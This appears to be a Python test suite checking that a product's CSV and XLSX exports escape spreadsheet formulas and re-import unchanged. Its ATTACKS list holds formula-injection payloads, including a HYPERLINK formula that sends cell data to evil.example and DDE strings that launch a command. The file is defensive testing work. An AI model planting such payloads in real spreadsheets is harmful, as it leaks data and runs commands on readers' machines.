"""Exports cannot attack their reader: no CSV or XLSX cell the product writes is a formula, and
an export re-imports as the original text (issue 14, item 3)."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from oneworkforce import spreadsheets

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_formula_text_is_written_with_an_apostrophe(text):
    assert spreadsheets.to_csv(text) == "'" + text
    assert spreadsheets.from_csv("'" + text) == text


@pytest.mark.parametrize("value", [-5, 3.25, "-5", "+3.2", "1e-3", "-", "+", "", "Ann Lee", None])
def test_numbers_dashes_and_plain_text_are_unchanged(value):
    assert spreadsheets.to_csv(value) == value


def test_text_that_already_starts_with_an_apostrophe_round_trips():
    # "'=x" is formula-like after its apostrophe, so it gains one more: "''=x" -> "'=x"
    assert spreadsheets.to_csv("'=x") == "''=x"
    assert spreadsheets.from_csv("''=x") == "'=x"
    # an apostrophe before ordinary text is the writer's own and is left alone both ways
    assert spreadsheets.to_csv("'Tis") == "'Tis"
    assert spreadsheets.from_csv("'Tis") == "'Tis"


@given(st.text())
def test_any_text_round_trips_and_is_never_a_formula(text):
    written = spreadsheets.to_csv(text)
    assert spreadsheets.from_csv(written) == text
    # what a spreadsheet program sees first is never a formula character, unless the cell is
    # a plain number or a lone dash
    if written and written[0] in spreadsheets.FORMULA_START:
        assert not spreadsheets.is_formula_like(written)


def _formulas_in_xlsx(data: bytes) -> list[str]:
    """The formulas stored in an XLSX file (its worksheets' <f> elements)."""
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        return [
            name
            for name in book.namelist()
            if name.startswith("xl/worksheets/") and b"<f>" in book.read(name)
        ]


def test_the_workbook_writes_formula_text_as_text():
    buffer = io.BytesIO()
    book = spreadsheets.workbook(buffer, {"in_memory": True})
    sheet = book.add_worksheet()
    sheet.write(0, 0, ATTACKS[0])
    sheet.write_row(1, 0, ATTACKS[1:])
    sheet.write(2, 0, "http://example.org")
    book.close()
    assert _formulas_in_xlsx(buffer.getvalue()) == []
    from python_calamine import CalamineWorkbook

    rows = CalamineWorkbook.from_filelike(io.BytesIO(buffer.getvalue()))
    rows = rows.get_sheet_by_index(0).to_python()
    assert rows[0][0] == ATTACKS[0]


@pytest.mark.django_db
def test_register_csv_export_is_neutralised_and_reimports_unchanged(tmp_path):
    from oneworkforce.registers import exporting, importing, models

    path = tmp_path / "risks.csv"
    rows = [["Risk Ref", "Risk Description"], *[[f"R{i}", t] for i, t in enumerate(ATTACKS)]]
    with open(path, "w", newline="", encoding="utf-8") as fh:
        csv.writer(fh).writerows(rows)
    importing.import_file("risks", path, "tester")
    assert models.Risk.objects.get(ref="R0").description == ATTACKS[0]

    exported = list(csv.reader(io.StringIO(exporting.to_csv("risks"), newline="")))
    descriptions = [r[exported[0].index("Risk Description")] for r in exported[1:]]
    assert sorted(descriptions) == sorted("'" + t for t in ATTACKS)

    # the export re-imports as the original text: nothing changes
    again = tmp_path / "again.csv"
    again.write_text(exporting.to_csv("risks"), encoding="utf-8")
    counts = importing.import_file("risks", again, "tester")
    assert counts["update"] == 0 and counts["create"] == 0
    assert models.Risk.objects.get(ref="R1").description == ATTACKS[1]

    assert _formulas_in_xlsx(exporting.to_xlsx("risks")) == []


texts = st.text(
    alphabet=st.characters(blacklist_categories=("Cs", "Cc"), blacklist_characters="\x00")
    | st.sampled_from(["=", "+", "-", "@", "'", "\t", ",", '"', ";"]),
    min_size=1,
    max_size=30,
).filter(lambda t: t.strip() == t and t.strip())


@pytest.mark.django_db
@settings(
    max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(descriptions=st.lists(texts, min_size=1, max_size=5))
def test_any_register_text_survives_export_and_reimport(tmp_path, descriptions):
    from oneworkforce.registers import exporting, importing, models

    models.Risk.objects.all().delete()
    path = tmp_path / "risks.csv"
    with open(path, "w", newline="", encoding="utf-8") as fh:
        writer = csv.writer(fh)
        writer.writerow(["Risk Ref", "Risk Description"])
        writer.writerows(spreadsheets.csv_row([f"R{i}", t]) for i, t in enumerate(descriptions))
    importing.import_file("risks", path, "tester")
    assert [r.description for r in models.Risk.objects.order_by("ref")] == descriptions

    exported = exporting.to_csv("risks")
    for row in list(csv.reader(io.StringIO(exported, newline="")))[1:]:
        for cell in row:
            assert not spreadsheets.is_formula_like(cell) or cell.startswith("'")
    path.write_text(exported, encoding="utf-8")
    counts = importing.import_file("risks", path, "tester")
    assert counts["update"] == 0
    assert [r.description for r in models.Risk.objects.order_by("ref")] == descriptions
    assert _formulas_in_xlsx(exporting.to_xlsx("risks")) == []
